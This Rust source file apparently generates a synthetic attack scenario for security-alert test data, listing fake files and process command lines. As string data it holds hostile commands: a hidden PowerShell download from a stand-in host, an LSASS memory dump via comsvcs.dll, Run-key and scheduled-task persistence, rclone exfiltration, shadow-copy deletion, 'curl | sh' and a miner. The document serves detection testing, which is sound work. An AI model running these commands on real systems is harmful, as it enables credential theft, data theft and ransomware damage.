//! Files and command lines of the invented world.

use crate::json::Json;
use crate::rng::Rng;

/// A file as evidence shows it; its hashes follow from its name.
#[derive(Debug)]
pub(crate) struct FileSpec {
    pub(crate) name: &'static str,
    pub(crate) path: &'static str,
    /// Publisher, signer and issuer of signed files.
    pub(crate) signed: Option<(&'static str, &'static str, &'static str)>,
    pub(crate) size: i64,
}

impl FileSpec {
    /// Bits from which the file's hashes are made.
    pub(crate) fn bits(&self, salt: u64) -> u64 {
        let of_name = self
            .name
            .bytes()
            .fold(0xCBF2_9CE4_8422_2325_u64, |h, b| (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01B3));
        Rng::new(of_name).draw(salt)
    }

    pub(crate) fn write_sha256(&self, key: &str, json: &mut Json<'_>) {
        json.hex(key, self.bits(256), 64);
    }

    pub(crate) fn write_sha1(&self, key: &str, json: &mut Json<'_>) {
        json.hex(key, self.bits(1), 40);
    }
}

const MICROSOFT: Option<(&str, &str, &str)> =
    Some(("Microsoft Corporation", "Microsoft Windows", "Microsoft Windows Production PCA 2011"));
const SYSTEM32: &str = "C:\\Windows\\System32";

const fn file(
    name: &'static str,
    path: &'static str,
    signed: Option<(&'static str, &'static str, &'static str)>,
    size: i64,
) -> FileSpec {
    FileSpec { name, path, signed, size }
}

pub(crate) static POWERSHELL: FileSpec =
    file("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", MICROSOFT, 455_680);
pub(crate) static EXPLORER: FileSpec = file("explorer.exe", "C:\\Windows", MICROSOFT, 5_236_216);
pub(crate) static OUTLOOK: FileSpec =
    file("OUTLOOK.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", MICROSOFT, 44_532_312);
pub(crate) static WINWORD: FileSpec =
    file("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16", MICROSOFT, 1_620_872);
pub(crate) static CMD: FileSpec = file("cmd.exe", SYSTEM32, MICROSOFT, 289_792);
pub(crate) static RUNDLL: FileSpec = file("rundll32.exe", SYSTEM32, MICROSOFT, 71_680);
pub(crate) static REG: FileSpec = file("reg.exe", SYSTEM32, MICROSOFT, 77_312);
pub(crate) static SERVICES: FileSpec = file("services.exe", SYSTEM32, MICROSOFT, 731_744);
pub(crate) static SCHTASKS: FileSpec = file("schtasks.exe", SYSTEM32, MICROSOFT, 235_008);
pub(crate) static VSSADMIN: FileSpec = file("vssadmin.exe", SYSTEM32, MICROSOFT, 145_920);
pub(crate) static BASH: FileSpec = file("bash", "/usr/bin", None, 1_396_520);
/// The loader of the attack story.
pub(crate) static LOADER: FileSpec = file("ledger_update.dll", "C:\\ProgramData\\LedgerSync", None, 318_464);
pub(crate) static TUNNEL: FileSpec = file("ledgersvc.exe", "C:\\Windows\\Temp", None, 1_204_736);
pub(crate) static ARCHIVER: FileSpec = file(
    "7z.exe",
    "C:\\ProgramData\\LedgerSync",
    Some(("Igor Pavlov", "Igor Pavlov", "Example Code Signing CA")),
    557_056,
);
pub(crate) static UPLOADER: FileSpec = file("rclone.exe", "C:\\ProgramData\\LedgerSync", None, 58_204_160);
pub(crate) static ARCHIVE: FileSpec = file("q1-forecast.7z", "C:\\ProgramData\\LedgerSync\\out", None, 734_003_200);
pub(crate) static WORKBOOK: FileSpec =
    file("Acquisition forecast 2026.xlsx", "\\\\srv-fin-0008\\finance\\board", None, 2_418_944);
pub(crate) static LURE: FileSpec = file("Remittance_0302.docm", "C:\\Users\\Public\\Downloads", None, 96_256);
pub(crate) static MINER: FileSpec = file("kthreadx", "/var/tmp/.cache", None, 3_145_728);
pub(crate) static BUNDLER: FileSpec = file(
    "FreePdfSetup.exe",
    "C:\\Users\\Public\\Downloads",
    Some(("PdfTools Ltd", "PdfTools Ltd", "Example Code Signing CA")),
    4_812_800,
);
pub(crate) static LOCKER: FileSpec = file("encsvc.exe", "C:\\PerfLogs", None, 902_144);

/// One process: every place that shows it agrees on its id, start and command line.
#[derive(Debug)]
pub(crate) struct Command {
    pub(crate) image: &'static FileSpec,
    pub(crate) parent: Option<&'static Command>,
    pub(crate) line: &'static str,
    /// When it starts, in minutes after the scenario opens.
    pub(crate) minute: i64,
    /// Tells processes apart.
    pub(crate) mark: u64,
}

const fn command(
    image: &'static FileSpec,
    parent: Option<&'static Command>,
    minute: i64,
    line: &'static str,
) -> Command {
    let (mut mark, mut at, bytes) = (0xCBF2_9CE4_8422_2325_u64, 0, line.as_bytes());
    while at < bytes.len() {
        mark = (mark ^ bytes[at] as u64).wrapping_mul(0x0000_0100_0000_01B3);
        at += 1;
    }
    Command { image, parent, line, minute, mark }
}

static SHELL_WINDOW: Command = command(&EXPLORER, None, -190, "C:\\Windows\\Explorer.EXE");
static SERVICE_MANAGER: Command = command(&SERVICES, None, -9000, "C:\\Windows\\system32\\services.exe");
static MAIL_CLIENT: Command = command(&OUTLOOK, Some(&SHELL_WINDOW), -60, "OUTLOOK.EXE");
static DOCUMENT: Command =
    command(&WINWORD, Some(&MAIL_CLIENT), 50, "WINWORD.EXE /n \"C:\\Users\\Public\\Downloads\\Remittance_0302.docm\"");
static FETCH: Command = command(
    &POWERSHELL,
    Some(&DOCUMENT),
    56,
    "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"Invoke-WebRequest -Uri 'https://cdn-telemetry.example/l/ledger_update.dll' -OutFile $env:ProgramData\\LedgerSync\\ledger_update.dll\"",
);
static LOAD: Command =
    command(&RUNDLL, Some(&FETCH), 57, "rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain");
static ADD_KEY: Command = command(
    &REG,
    Some(&LOAD),
    70,
    "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v LedgerSync /t REG_SZ /d \"rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain\" /f",
);
static ADD_TASK: Command = command(
    &SCHTASKS,
    Some(&LOAD),
    71,
    "schtasks.exe /create /tn \\LedgerSync /tr \"rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain\" /sc onlogon /rl highest /f",
);
static FIND_STORE: Command = command(&CMD, Some(&LOAD), 97, "cmd.exe /c \"tasklist /fi \"imagename eq lsass.exe\"\"");
static DUMP_STORE: Command = command(
    &RUNDLL,
    Some(&LOAD),
    98,
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\LedgerSync\\l.dmp full",
);
static REMOTE_PIPE: Command =
    command(&TUNNEL, Some(&SERVICE_MANAGER), 126, "C:\\Windows\\Temp\\ledgersvc.exe --pipe \\\\.\\pipe\\ledger --wait");
static WHO_AM_I: Command =
    command(&CMD, Some(&REMOTE_PIPE), 127, "cmd.exe /c whoami /groups & net group \"Domain Admins\" /domain");
static PACK: Command = command(
    &ARCHIVER,
    Some(&REMOTE_PIPE),
    140,
    "7z.exe a -mx1 -v512m C:\\ProgramData\\LedgerSync\\out\\q1-forecast.7z \\\\srv-fin-0008\\finance\\board\\*.xlsx",
);
static UPLOAD: Command = command(
    &UPLOADER,
    Some(&REMOTE_PIPE),
    152,
    "rclone.exe copy C:\\ProgramData\\LedgerSync\\out box:in --transfers 8 --config C:\\ProgramData\\LedgerSync\\r.conf",
);
static LOCK: Command =
    command(&LOCKER, Some(&SERVICE_MANAGER), 60, "C:\\PerfLogs\\encsvc.exe -paths C:\\Shares -mode fast");
static DELETE_COPIES: Command = command(&VSSADMIN, Some(&LOCK), 61, "vssadmin.exe delete shadows /all /quiet");
static WEB_SHELL: Command = command(&BASH, None, 40, "bash -c \"curl -fsSL http://cdn-telemetry.example/i.sh | sh\"");
static MINE: Command = command(
    &MINER,
    Some(&WEB_SHELL),
    42,
    "/var/tmp/.cache/kthreadx -o stratum+tcp://pool.sync-relay.example:3333 -u w1 --donate-level 1",
);
static INVENTORY: Command = command(
    &POWERSHELL,
    Some(&SHELL_WINDOW),
    20,
    "powershell.exe -File \"C:\\Tools\\Inventory\\Collect-Inventory.ps1\" -Site Oslo",
);
static MAP_DRIVE: Command = command(&CMD, Some(&SHELL_WINDOW), 22, "cmd.exe /c \"net use S: \\\\srv-eng-0010\\share\"");
static INSTALLER: Command =
    command(&BUNDLER, Some(&MAIL_CLIENT), 25, "\"C:\\Users\\Public\\Downloads\\FreePdfSetup.exe\" /S /channel=mail");

/// Which processes a detection shows, and what else belongs to them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Tool {
    Download,
    Dump,
    Persist,
    Remote,
    Stage,
    Encrypt,
    Shell,
    Usual,
    /// No machine is involved.
    None,
}

impl Tool {
    /// Process number `round` of an alert.
    pub(crate) fn command(self, round: u32) -> &'static Command {
        let pick = |of: [&'static Command; 2]| of[round as usize % 2];
        match self {
            Tool::Download => pick([&FETCH, &LOAD]),
            Tool::Dump => pick([&DUMP_STORE, &FIND_STORE]),
            Tool::Persist => pick([&ADD_KEY, &ADD_TASK]),
            Tool::Remote => pick([&REMOTE_PIPE, &WHO_AM_I]),
            Tool::Stage => pick([&PACK, &UPLOAD]),
            Tool::Encrypt => pick([&DELETE_COPIES, &LOCK]),
            Tool::Shell => pick([&MINE, &WEB_SHELL]),
            Tool::Usual | Tool::None => [&INSTALLER, &INVENTORY, &MAP_DRIVE][round as usize % 3],
        }
    }

    /// File number `round` of an alert.
    pub(crate) fn file(self, round: u32) -> &'static FileSpec {
        match (self, round) {
            (Tool::Download | Tool::Persist, 0) => &LOADER,
            (Tool::Remote, 0) => &TUNNEL,
            (Tool::Stage, 0) => &ARCHIVE,
            (Tool::Stage, 1) | (Tool::None, 1..) => &WORKBOOK,
            (Tool::None, 0) => &LURE,
            (Tool::Encrypt, 0) => &LOCKER,
            (tool, round) => tool.command(round).image,
        }
    }

    /// The domain that its programs speak to, and the path there.
    pub(crate) fn target(self) -> Option<(&'static str, &'static str)> {
        match self {
            Tool::Download => Some(("cdn-telemetry.example", "/l/ledger_update.dll")),
            Tool::Shell => Some(("cdn-telemetry.example", "/i.sh")),
            Tool::Stage => Some(("upload.northbox.example", "/share/in")),
            _ => None,
        }
    }
}
